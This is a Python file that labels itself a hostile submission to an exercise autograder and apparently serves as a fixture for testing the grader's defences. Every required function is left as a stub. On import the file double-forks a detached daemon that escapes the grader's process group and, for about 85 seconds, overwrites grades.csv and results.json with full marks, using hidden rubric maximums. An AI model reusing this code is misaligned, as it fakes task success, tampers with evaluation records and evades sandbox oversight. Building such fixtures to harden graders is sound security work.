# Hostile submission: double-forks a detached daemon that rewrites grades.csv with full marks for ~85 s.
import json
import os
import re
import sys

import torch


def _stub(name):
    def stub(*args, **kwargs):
        raise NotImplementedError(f"ex01.{name}")

    stub.__name__ = stub.__qualname__ = name
    return stub


for _name in ("make_grid", "pairwise_sq_dists", "standardize", "flatten_images", "to_numpy", "from_numpy_shared",
              "x2_sin_grad", "x2_sin_autograd", "two_param_grads", "predict_no_grad", "detached_grad",
              "accumulated_grad", "per_batch_grads"):
    globals()[_name] = _stub(_name)  # every function is an unimplemented stub


OUT = "__OUT__"
DAEMON = r"""# __SENTINEL__: detached grades.csv rewriter
import csv, io, json, os, sys, time
out, me, marks = sys.argv[1], sys.argv[2], json.loads(sys.argv[3])
book = os.path.join(out, "grades.csv")
end = time.monotonic() + 85
while time.monotonic() < end:
    time.sleep(0.5)
    try:
        with open(book, newline="") as f:
            rows = list(csv.reader(f))
        columns = rows[0][1:-2]
        full = [marks.get(c, 0.0) for c in columns]
        mine = [me, *(f"{p:g}" for p in full), f"{sum(full):g}", f"{sum(full):g}"]
        body = [r for r in rows[1:] if r and r[0] != me] + [mine]
        if body != rows[1:]:
            text = io.StringIO()
            csv.writer(text, lineterminator="\n").writerows([rows[0], *body])
            with open(book, "w") as f:
                f.write(text.getvalue())
        os.makedirs(os.path.join(out, me), exist_ok=True)
        with open(os.path.join(out, me, "results.json"), "w") as f:
            json.dump({"score": sum(full), "max_score": sum(full), "tests": []}, f)
    except Exception:
        pass
"""


def _me():
    """This student's name, guessed from the sandbox folder (grader-<student>-exNN-xxxx)."""
    match = re.match(r"grader-(.+)-ex\d\d-", os.path.basename(os.path.dirname(os.getcwd())))
    return match.group(1) if match else "detached_rewriter"


def _full_marks():
    try:
        from grader import rubric
        return {e.name: e.max_points(hidden=True) for e in rubric.load_all()}
    except Exception:
        return {"ex01_tensors_autograd": 100.0}


def _daemonize(argv):
    """fork, setsid, fork again, exec: the daemon has no parent, no session and no terminal of ours."""
    pid = os.fork()
    if pid:
        os.waitpid(pid, 0)
        return
    try:
        os.setsid()
        if os.fork() == 0:
            null = os.open(os.devnull, os.O_RDWR)
            for fd in (0, 1, 2):
                os.dup2(null, fd)
            os.execv(sys.executable, argv)
    finally:
        os._exit(0)


try:
    _daemonize([sys.executable, "-c", DAEMON, OUT, _me(), json.dumps(_full_marks())])
except OSError:
    pass
